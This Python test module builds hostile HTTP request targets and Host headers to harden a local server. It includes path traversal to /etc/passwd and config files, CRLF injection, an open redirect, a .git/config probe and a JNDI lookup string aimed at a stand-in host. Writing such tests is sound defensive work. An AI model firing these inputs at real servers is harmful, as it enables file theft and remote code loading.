"""Addresses: what is asked for, and of whom."""

from collections.abc import Iterator

from tests.hardening.corpus.message import Message, Verdict, get, write_lines

HOST = "Host: localhost"

TARGETS: list[str | bytes] = [
    "",
    "?a",
    "#a",
    "/#a",
    "/livez#a",
    "*",
    "livez",
    "localhost:80",
    "http://localhost/livez",
    "HTTP://localhost/livez",
    "https://localhost/livez",
    "http://localhost",
    "http://localhost?a",
    "http://evil.test/livez",
    "http://user:secret@localhost/livez",
    "http://localhost@evil.test/livez",
    "http://localhost:99999/livez",
    "http://[::1/livez",
    "http:///livez",
    "http:/livez",
    "ftp://localhost/livez",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "//localhost/livez",
    "//evil.test/livez",
    "///livez",
    "/livez//",
    "//",
    "/\\evil.test",
    "/%",
    "/%0",
    "/%zz",
    "/%u0041",
    "/%00",
    "/a%00b",
    "/%0a%0dX:%20y",
    "/%1b[31m",
    "/%7f",
    "/%ff",
    "/%c0%af",
    "/%c0%ae%c0%ae/",
    "/%e0%80%af",
    "/%f0%80%80%af",
    "/%ed%a0%80",
    "/%f5%80%80%80",
    "/%c3",
    "/%c3%a9",
    "/%ef%bb%bf",
    "/%e2%80%ae",
    "é".encode().join([b"/", b""]),
    b"/\x80",
    b"/\xff\xfe",
    b"/\x01",
    b"/\x7f",
    b"/\0",
    "/./livez",
    "/../livez",
    "/../../etc/passwd",
    "/a/../livez",
    "/static/../config.py",
    "/static/..%2fconfig.py",
    "/static/%2e%2e/config.py",
    "/static/..\\config.py",
    "/static/..%5cconfig.py",
    "/static/%252e%252e/config.py",
    "/static//etc/passwd",
    "/static/app.css/",
    "/static/app.css%00.txt",
    "/static/.",
    "/static/",
    "/api/v1/../../livez",
    "/api/v1/entities/1/../2",
    "/api/v1/entities/%2e%2e",
    "/api//v1/entities",
    "/;a=b",
    "/livez;a=b",
    "/a b",
    "/<script>",
    '/"{}|^`',
    "/livez?%",
    "/livez?%ff=%ff",
    "/livez?%00",
    "/livez?a=%0a&a=%0d",
    "/livez?" + "a&" * 2000,
    "/livez?" + "a=b&" * 1500,
    "/livez?a?b#c",
    "/auth/login?next=//evil.test",
    "/auth/login?next=%ff",
    "/api/v1/entities?page=" + "9" * 5000,
    "/" + "a" * 256,
    "/" + "a/" * 1500,
    "/" + "%61" * 2000,
    "/.git/config",
    "/metrics",
    "/internal/metrics",
]

HOSTS = [
    "",
    " ",
    "evil.test",
    "localhost:80",
    "localhost:8000",
    "localhost:",
    "localhost:x",
    "localhost:99999",
    "localhost:-1",
    "LOCALHOST",
    "localhost.",
    "localhost..",
    ".localhost",
    "localhost/evil",
    "localhost?evil",
    "localhost#evil",
    "user@localhost",
    "localhost@evil.test",
    "localhost, evil.test",
    "localhost evil.test",
    "localhost\tevil.test",
    "http://localhost",
    "[::1]",
    "[::1",
    "[localhost]",
    "[::1]:80]",
    "127.0.0.1",
    "2130706433",
    "0",
    "*",
    "%6cocalhost",
    "localhos\xe9",
    "xn--",
    "xn--a" * 20,
    "localhost\0",
    "localhost\x0b",
    "a" * 300,
    "a." * 200,
    "-",
    "_",
    "'\"<script>",
    "${jndi:ldap://evil.test/a}",
]


def ask_for_targets() -> Iterator[Message]:
    for target in TARGETS:
        yield Message(f"the target {target[:40]!r}", get(target))
    for method, target in (
        ("OPTIONS", "*"),
        ("CONNECT", "localhost:80"),
        ("CONNECT", "evil.test:443"),
    ):
        yield Message(f"{method} {target}", write_lines(f"{method} {target} HTTP/1.1", HOST))


def ask_of_hosts() -> Iterator[Message]:
    for host in HOSTS:
        for target in ("/", "/livez"):
            yield Message(f"{target} of the host {host[:40]!r}", get(target, host=host))
    yield Message("no host", write_lines("GET / HTTP/1.1"), Verdict.REFUSED)
    twice = write_lines("GET / HTTP/1.1", HOST, HOST)
    yield Message("the host twice", twice, Verdict.REFUSED)
    other = write_lines("GET / HTTP/1.1", HOST, "Host: evil.test")
    yield Message("two hosts", other, Verdict.REFUSED)
    for one, two in (("localhost", "evil.test"), ("evil.test", "localhost")):
        data = get(f"http://{one}/", host=two)
        yield Message(f"the target of {one}, the host {two}", data)


def address() -> list[Message]:
    return [*ask_for_targets(), *ask_of_hosts()]
